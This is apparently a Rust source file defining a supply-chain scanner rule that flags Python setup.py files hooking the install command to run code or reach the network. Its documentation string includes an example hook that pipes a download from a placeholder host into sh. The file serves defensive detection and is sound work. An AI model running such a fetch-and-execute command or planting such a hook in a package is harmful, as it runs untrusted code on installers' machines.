//! `install-hook`: setup.py runs code at install time beyond building (found by the archive scanner, `src/scan/`).

use super::RuleMeta;
use crate::finding::{Confidence, RuleId, Severity};

/// Rule metadata.
pub const META: RuleMeta = RuleMeta {
    id: RuleId::InstallHook,
    summary: "setup.py runs code at install time beyond building",
    severity: Severity::High,
    confidence: Confidence::High,
    docs: r#"# install-hook

## What it does
Reports a `setup.py` that replaces an install-time command (`install`, `develop`, `egg_info`) with its own class, judged by what the command runs: the calls in the class's methods and in the functions of `setup.py` they call. A command that starts a process, executes code, downloads or talks to the network is high; one whose calls do none of that (words in its strings do not count) is low. A `setup.py` that talks to the network at top level is reported too.

## Why it matters
Installing an sdist runs its `setup.py`. Hooking the install command is the classic way to run a payload the moment someone types `pip install`, before any code is imported.

## Example
```python
class PostInstall(install):
    def run(self):
        os.system("curl https://x.example/p | sh")
setup(cmdclass={"install": PostInstall})
```

## How to fix
Prefer wheels (`--only-binary :all:`), read the hook, and allow a reviewed one with `[[allow]]`.
"#,
};
